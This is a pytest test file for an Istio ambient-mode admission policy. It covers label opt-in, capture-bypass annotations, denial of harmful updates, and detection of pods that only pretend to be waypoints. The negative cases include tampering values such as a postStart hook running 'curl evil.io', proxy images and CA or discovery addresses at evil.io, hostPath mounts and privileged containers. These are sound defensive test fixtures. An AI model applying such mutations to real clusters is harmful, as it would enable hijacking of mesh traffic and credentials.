"""Ambient mode, apart from the fixtures: opt-in, intent, updates, ingress, gateways."""

from typing import Any

import pytest

from tests.fixtures.changes import (
    APP,
    PREPARE,
    QUIET,
    Change,
    annotation,
    changed,
    drop,
    label,
    put,
)
from tests.fixtures.meshes.ambient import BYPASS, KEY, MODE, app
from tests.fixtures.meshes.istio import STATUS, gateway, waypoint
from tests.unit.policy.judge import Json, broken, deployment, judge, patch_for, settings

OVERRIDE = settings(optOut="override")
OPT_IN = [{"op": "add", "path": "/metadata/labels/istio.io~1dataplane-mode", "value": "ambient"}]


def found(pod: Json, **more: Any) -> list[str]:
    return broken(judge(pod, by="ambient", **more))


def marked(value: str | None) -> Json:
    return changed(app(), drop(KEY) if value is None else label(MODE, value))


@pytest.mark.parametrize(
    ("value", "patch", "overridden"),
    [
        (None, OPT_IN, OPT_IN),
        ("ambient", [], []),
        ("none", [], OPT_IN),
        ("", OPT_IN, OPT_IN),
        ("Ambient", OPT_IN, OPT_IN),
        ("sidecar", OPT_IN, OPT_IN),
    ],
)
def test_the_label_is_added_unless_the_author_says_no(
    value: str | None, patch: list[Json], overridden: list[Json]
) -> None:
    assert patch_for(marked(value), by="ambient") == patch
    assert patch_for(marked(value), by="ambient", given=OVERRIDE) == overridden


def test_a_pod_that_must_end_needs_nothing_more() -> None:
    task = changed(marked(None), put("/spec/restartPolicy", "Never"))
    assert patch_for(task, by="ambient") == OPT_IN


@pytest.mark.parametrize(
    ("value", "stored", "template"),
    [
        ("ambient", [], []),
        (None, ["proxy-missing"], []),
        ("none", ["opted-out"], ["opted-out"]),
        ("Ambient", ["opted-out"], []),
        ("", ["opted-out"], []),
    ],
)
def test_only_the_label_s_own_value_enrolls(
    value: str | None, stored: list[str], template: list[str]
) -> None:
    assert found(marked(value)) == stored
    assert found(deployment(marked(value))) == template
    assert found(deployment(marked(value)), given=OVERRIDE) == []


@pytest.mark.parametrize(
    ("value", "bypasses"),
    [
        ("true", True), ("True", True), ("TRUE", True), ("t", True), ("T", True), ("1", True),
        ("false", False), ("False", False), ("0", False),
        # None of these is a boolean in Go, and we do not guess the meaning.
        ("", True), ("yes", True), (" true", True), ("2", True),
    ],
)  # fmt: skip
def test_the_switch_for_inbound_capture_is_read_as_go_reads_it(value: str, bypasses: bool) -> None:
    pod = changed(app(), annotation(BYPASS, value))
    assert found(pod) == (["capture-bypassed"] if bypasses else [])
    assert found(deployment(pod)) == (["capture-bypassed"] if bypasses else [])


def test_an_ingress_controller_takes_in_clients_that_are_not_of_the_mesh() -> None:
    pod = changed(app(), annotation(BYPASS, "true"))
    assert found(pod, ingress=True) == []
    assert found(deployment(pod), ingress=True) == []
    rerouted = changed(app(), annotation("istio.io/reroute-virtual-interfaces", "eth0"))
    assert found(rerouted, ingress=True) == ["capture-bypassed"]


@pytest.mark.parametrize(
    ("change", "check"),
    [
        (label(MODE, "none"), "mesh-label-removed"),
        (label(MODE, "Ambient"), "mesh-label-removed"),
        (drop(KEY), "mesh-label-removed"),
        (annotation(STATUS, ""), "status-forged"),
        (annotation(BYPASS, "1"), "capture-bypassed"),
        (annotation("istio.io/reroute-virtual-interfaces", "eth0"), "capture-bypassed"),
        (label("sidecar.istio.io/inject", "true"), "foreign-mesh"),
    ],
)
def test_what_an_update_makes_worse_is_denied(change: Change, check: str) -> None:
    assert check in found(changed(app(), change), old=app())


@pytest.mark.parametrize("pod", [gateway(), waypoint()], ids=["gateway", "waypoint"])
def test_the_mesh_s_own_pods_are_left_alone(pod: Json) -> None:
    assert patch_for(pod, by="ambient") == []
    assert judge(pod, by="ambient").outcome == "admitted"
    assert judge(deployment(pod), by="ambient").outcome == "admitted"


@pytest.mark.parametrize(
    "changes",
    [
        [put(APP + "/image", "evil.io/istio/proxyv2:1")],
        [put(APP + "/command", ["sleep", "infinity"])],
        [put(APP + "/args", ["proxy", "sidecar"])],
        [put(APP + "/args", ["proxy", "waypoint", "--templateFile=/extra/x"])],
        [put(APP + "/env/-", {"name": "PROXY_CONFIG",
                              "value": "proxyMetadata: {ISTIO_BOOTSTRAP: /extra/x}"})],
        [put(APP + "/workingDir", "/extra")],
        [put(APP + "/envFrom", [{"configMapRef": {"name": "shop"}}])],
        [put(APP + "/env/-", {"name": "ISTIO_BOOTSTRAP", "value": "/extra/x"})],
        [put(APP + "/env/-", {"name": "CA_ADDR", "value": "evil.io:15012"})],
        [annotation("proxy.istio.io/config", "binaryPath: /extra/envoy")],
        [annotation("proxy.istio.io/config", "discoveryAddress: evil.io:15012")],
        [annotation("sidecar.istio.io/discoveryAddress", "evil.io:15012")],
        [annotation("sidecar.istio.io/bootstrapOverride", "shop")],
        [put(APP + "/lifecycle", {"postStart": {"exec": {"command": ["curl", "evil.io"]}}})],
        [put("/spec/hostAliases", [{"ip": "10.9.9.9", "hostnames": ["erp.example.com"]}])],
        [put("/spec/hostnameOverride", "shop.example.com")],
        [put("/metadata/name", "istiod.istio-system.svc")],
        [put("/spec/dnsConfig", {"nameservers": ["10.9.9.9"]})],
        [put(APP + "/securityContext/privileged", True)],
        [put(APP + "/env/-", {"name": "PROXY_CONFIG", "value": "{serviceCluster: $(APP)}"})],
        [put("/spec/volumes/0", {"name": "workload-socket", "hostPath": {"path": "/run"}})],
        [put("/spec/volumes/-", {"name": "extra", "emptyDir": {}}),
         put(APP + "/volumeMounts/-", {"name": "extra", "mountPath": "/var/lib/istio/envoy"})],
        [put("/spec/containers/-", {"name": "shop", "image": "shop:1",
                                    "securityContext": QUIET})],
        [put("/spec/initContainers", [PREPARE])],
    ],
)  # fmt: skip
def test_what_only_looks_like_a_waypoint_is_denied(changes: list[Change]) -> None:
    pod = changed(waypoint(), *changes)
    assert "opted-out" in found(pod)
    assert found(pod, given=OVERRIDE) == found(pod)
    assert found(pod, old=waypoint())


@pytest.mark.parametrize("by", ["ambient", "istio"])
def test_of_a_gateway_with_more_in_it_the_opt_out_is_explained(by: str) -> None:
    """istiod wrote it, not the author, so the fix names what was added."""
    beside = put("/spec/containers/-", {"name": "shop", "image": "shop:1"})

    def reason(pod: Json) -> str:
        violations = judge(deployment(pod), by=by).violations
        (one,) = [violation for violation in violations if violation.check == "opted-out"]
        return one.reason

    assert "spec.containers[shop] is a container beside the proxy" in reason(
        changed(waypoint(), beside)
    )
    hook = put(APP + "/lifecycle", {"postStart": {"exec": {"command": ["curl", "evil.io"]}}})
    text = reason(changed(waypoint(), hook))
    assert "spec.containers[istio-proxy].lifecycle.postStart runs its own command" in text
    agent = put(APP + "/name", "agentgateway")
    assert "it runs agentgateway, but mendix-mesh recognizes" in reason(changed(waypoint(), agent))
    managed = drop("/metadata/labels/gateway.istio.io~1managed")
    assert "gateway" not in reason(changed(waypoint(), beside, managed))


@pytest.mark.parametrize("place", ["initContainers", "ephemeralContainers"])
def test_a_waypoint_that_is_not_a_main_container_is_not_a_waypoint(place: str) -> None:
    only = waypoint()["spec"]["containers"]
    pod = changed(waypoint(), put(f"/spec/{place}", only), put("/spec/containers", []))
    assert "opted-out" in found(pod)


def test_a_waypoint_on_the_nodes_network_is_not_a_waypoint() -> None:
    assert "host-network" in found(changed(waypoint(), put("/spec/hostNetwork", True)))
